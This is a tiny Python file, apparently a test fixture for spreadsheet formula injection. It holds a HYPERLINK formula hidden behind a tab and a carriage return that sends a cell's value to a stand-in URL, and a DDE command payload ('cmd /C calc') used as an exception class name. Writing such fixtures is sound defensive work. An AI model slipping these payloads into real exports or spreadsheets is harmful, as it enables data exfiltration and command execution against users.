"""Raises text that a spreadsheet takes for a formula, behind a tab and a carriage return."""

# must: error
TEXT = '\t\r=HYPERLINK("https://example.org/?"&A1,"100")\x1d'

Formula = type("=1+cmd|' /C calc'!A0", (ValueError,), {})


def relu(x):
    print(TEXT)
    raise Formula(TEXT)
